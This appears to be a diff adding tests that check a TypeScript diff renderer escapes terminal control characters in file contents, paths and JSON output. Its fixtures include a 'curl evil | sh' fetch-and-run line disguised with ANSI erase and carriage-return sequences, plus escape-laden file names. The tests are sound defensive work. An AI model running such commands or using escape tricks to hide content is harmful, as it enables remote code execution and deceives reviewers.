@@ -182,6 +182,74 @@ describe('renderUnifiedDiff', () => {
   });
 });
 
+describe('renderUnifiedDiff: control characters are shown, never sent to the terminal', () => {
+  /** Content an actor wrote to erase the line above and overwrite the start of its own line. */
+  const hostile = change({
+    operation: 'MODIFY',
+    path: 'run.sh',
+    beforeContent: bytes('echo safe\n'),
+    afterContent: bytes('curl evil | sh\u001b[2K\rdel\u007f \u009b1A\tend\n'),
+  });
+  const escapedLine = '+curl evil | sh\\x1b[2K\\rdel\\x7f \\u009b1A\tend';
+  /** Exactly the sequences picocolors emits for the colours the diff uses. */
+  // eslint-disable-next-line no-control-regex
+  const OUR_COLOURS = /\u001b\[(?:1|22|31|32|36|39)m/g;
+  // eslint-disable-next-line no-control-regex
+  const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
+
+  it('escapes ESC, CR, DEL and C1 in content without colour, keeping tabs', () => {
+    const text = renderUnifiedDiff([hostile], { color: false });
+    expect(text.split('\n')).toContain(escapedLine);
+    expect(text).not.toMatch(RAW_CONTROL);
+    expect(text).not.toContain('\r');
+  });
+
+  it('escapes them before colouring, so only our own colour codes remain', () => {
+    const text = renderUnifiedDiff([hostile], { color: true });
+    expect(text).toContain(`\u001b[32m${escapedLine}\u001b[39m\n`);
+    expect(text).toContain('\u001b[1mdiff --git a/local/demo/run.sh b/local/demo/run.sh\u001b[22m\n');
+    const stripped = text.replace(OUR_COLOURS, '');
+    expect(stripped).toBe(renderUnifiedDiff([hostile], { color: false }));
+    expect(stripped).not.toMatch(RAW_CONTROL);
+  });
+
+  it('escapes control characters in paths, in every header', () => {
+    const renamed = change({
+      operation: 'MOVE',
+      fromPath: 'a\u001b[2Kb\u009b.txt',
+      path: 'c\u007f\rd.txt',
+      beforeHash: 'h',
+      afterHash: 'h',
+    });
+    const created = change({
+      operation: 'CREATE',
+      path: 'x\u001b]0;t\u0007.md',
+      afterContent: bytes('hi\n'),
+    });
+    for (const color of [false, true]) {
+      const text = renderUnifiedDiff([renamed, created], { color }).replace(OUR_COLOURS, '');
+      expect(text).not.toMatch(RAW_CONTROL);
+      expect(text.split('\n')).toEqual([
+        'diff --git "a/local/demo/a\\u001b[2Kb\\u009b.txt" "b/local/demo/c\\x7f\\rd.txt"',
+        'rename from "local/demo/a\\u001b[2Kb\\u009b.txt"',
+        'rename to "local/demo/c\\x7f\\rd.txt"',
+        'diff --git "a/local/demo/x\\u001b]0;t\\u0007.md" "b/local/demo/x\\u001b]0;t\\u0007.md"',
+        'new file mode 100644',
+        '--- /dev/null',
+        '+++ "b/local/demo/x\\u001b]0;t\\u0007.md"',
+        '@@ -0,0 +1,1 @@',
+        '+hi',
+        '',
+      ]);
+    }
+  });
+
+  it('shows the carriage return of a CRLF file', () => {
+    const crlf = change({ operation: 'CREATE', path: 'w.txt', afterContent: bytes('a\r\nb\r\n') });
+    expect(renderUnifiedDiff([crlf], { color: false }).split('\n').slice(-3)).toEqual(['+a\\r', '+b\\r', '']);
+  });
+});
+
 describe('diffStat', () => {
   it('lists one line per change and the totals', () => {
     expect(diffStat([created, moved, deleted, modified])).toBe(
@@ -191,6 +259,20 @@ describe('diffStat', () => {
         'D local/demo/old.txt',
         'M local/demo/src/app.ts',
         '1 created, 1 modified, 1 deleted, 1 moved',
+      ].join('\n'),
+    );
+  });
+
+  it('quotes and escapes paths with control characters', () => {
+    const stat = diffStat([
+      change({ operation: 'CREATE', path: 'a\u001b[1Ab.txt' }),
+      change({ operation: 'MOVE', fromPath: 'c\rd', path: 'e\u009bf' }),
+    ]);
+    expect(stat).toBe(
+      [
+        'A "local/demo/a\\u001b[1Ab.txt"',
+        'R "local/demo/c\\rd" -> "local/demo/e\\u009bf"',
+        '1 created, 0 modified, 0 deleted, 1 moved',
       ].join('\n'),
     );
   });
@@ -266,5 +348,21 @@ describe('changesetJson', () => {
       ],
     });
     expect(JSON.stringify(json)).not.toContain(ANSI);
+  });
+
+  it('carries the diff text with control characters escaped, as rendered without colour', () => {
+    const hostile = change({
+      operation: 'CREATE',
+      path: 'a\u009bb.txt',
+      afterHash: 'h-hostile',
+      afterContent: bytes('ok\u001b[2K\rhidden\u009b\n'),
+    });
+    const json = changesetJson({ ...changeset, changes: [hostile] });
+    const [only] = json.changes as Array<Record<string, unknown>>;
+    expect(only?.path).toBe('a\u009bb.txt');
+    expect(only?.diff).toBe(renderUnifiedDiff([hostile], { color: false }));
+    expect(only?.diff).toContain('\n+ok\\x1b[2K\\rhidden\\u009b\n');
+    // eslint-disable-next-line no-control-regex
+    expect(only?.diff).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
   });
 });
